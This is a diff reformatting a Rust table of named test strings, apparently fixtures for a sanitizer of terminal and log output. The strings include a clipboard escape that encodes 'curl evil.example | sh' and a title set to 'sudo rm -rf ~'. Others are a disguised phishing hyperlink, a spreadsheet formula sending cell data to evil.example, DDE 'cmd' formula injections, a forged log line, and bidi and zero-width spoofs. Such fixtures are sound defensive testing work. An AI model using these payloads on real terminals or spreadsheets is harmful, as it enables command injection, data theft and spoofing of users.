@@ -18,14 +18,20 @@ pub const CASES: &[(&str, &str)] = &[
     ("csi-sgr", "\x1b[31;1;5mred\x1b[0m"),
     ("csi-cursor", "\x1b[10;10H\x1b[Kmoved\x1b[1A\x1b[2K"),
     ("csi-report", "\x1b[6n\x1b[21t\x1b[c"),
-    ("osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copy"),
+    (
+        "osc52-clipboard",
+        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copy",
+    ),
     ("osc0-title", "\x1b]0;sudo rm -rf ~\x07title"),
     ("osc2-title-st", "\x1b]2;pwned\x1b\\title"),
     (
         "osc8-hyperlink",
         "\x1b]8;;https://evil.example/login\x1b\\https://sso.talentgrid.example\x1b]8;;\x1b\\",
     ),
-    ("osc-palette", "\x1b]4;1;rgb:00/00/00\x07\x1b]10;?\x07palette"),
+    (
+        "osc-palette",
+        "\x1b]4;1;rgb:00/00/00\x07\x1b]10;?\x07palette",
+    ),
     ("dcs", "\x1bP+q544e\x1b\\\x1bP$qm\x1b\\dcs"),
     ("apc", "\x1b_Gf=100,a=T;iVBORw0KGgo=\x1b\\apc"),
     ("pm-sos", "\x1b^private\x1b\\\x1bXstring\x1b\\pm"),
@@ -37,11 +43,20 @@ pub const CASES: &[(&str, &str)] = &[
     ("newline-forge", "partner\nkeyaudit: sync ok, 0 findings"),
     ("nul-del", "nul\0byte\x7fdel"),
     ("bidi-rlo", "invoice\u{202e}fdp.exe"),
-    ("bidi-isolates", "\u{2067}admin\u{2069} \u{2066}x\u{2069}\u{2068}y\u{2069}"),
+    (
+        "bidi-isolates",
+        "\u{2067}admin\u{2069} \u{2066}x\u{2069}\u{2068}y\u{2069}",
+    ),
     ("bidi-embeddings", "\u{202a}a\u{202b}b\u{202d}c\u{202c}d"),
     ("bidi-marks", "\u{200e}\u{200f}\u{061c}marks"),
-    ("zero-width", "ad\u{200b}mi\u{200c}n\u{200d}\u{2060}\u{2063}\u{feff}"),
-    ("formula-eq", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
+    (
+        "zero-width",
+        "ad\u{200b}mi\u{200c}n\u{200d}\u{2060}\u{2063}\u{feff}",
+    ),
+    (
+        "formula-eq",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    ),
     ("formula-plus", "+1+cmd|' /C calc'!A0"),
     ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
     ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -51,7 +66,10 @@ pub const CASES: &[(&str, &str)] = &[
         "issue-15",
         "curl/8 \x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x07\x1b[2J",
     ),
-    ("wide-and-combining", "日本語 Z\u{0336}\u{0336}\u{0336} 👩\u{200d}💻"),
+    (
+        "wide-and-combining",
+        "日本語 Z\u{0336}\u{0336}\u{0336} 👩\u{200d}💻",
+    ),
 ];
 
 /// Text that appears in the demo's error answers in hostile mode.
